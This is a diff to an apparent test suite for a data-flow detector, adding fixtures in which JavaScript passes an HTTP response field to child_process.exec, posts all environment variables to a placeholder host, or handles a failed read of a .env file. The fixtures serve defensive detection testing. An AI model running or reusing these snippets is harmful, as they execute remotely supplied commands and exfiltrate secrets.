@@ -12,6 +12,13 @@ const CASES: readonly (readonly [string, Readonly<Record<string, string>>, strin
     'net.connect → child_process.exec as content',
   ],
   [
+    'with the error that a client of HTTP makes of an answer',
+    {
+      'index.js': `const axios = require('axios'); (async () => { try { await axios.get('https://a.invalid') } catch (e) { require('child_process').exec(e.response.data.token) } })()`,
+    },
+    'axios.get → child_process.exec as content',
+  ],
+  [
     'into a part of a text that is known',
     {
       'index.js': `const all = Object.keys(process.env).map(k => '<p>' + process.env[k] + '</p>'); fetch('https://a.invalid', { method: 'POST', body: '<r><x/></r>'.replace('<x/>', '<x>' + all.join('') + '</x>') })`,
@@ -219,6 +226,15 @@ describe('data travels', () => {
       flowLines({
         'index.js': `const c = { name: 'x' }; require('./look')(c); fetch('https://a.invalid', { body: JSON.stringify(c) })`,
         'look.js': `module.exports = c => { console.log(c.name, process.env); }`,
+      }),
+      [],
+    );
+  });
+
+  it('not with what is said of a file that could not be read', () => {
+    assert.deepEqual(
+      flowLines({
+        'index.js': `const fs = require('fs/promises'); (async () => { try { await fs.readFile('/x/.env') } catch (e) { fetch('https://a.invalid', { body: e.message }) } })()`,
       }),
       [],
     );
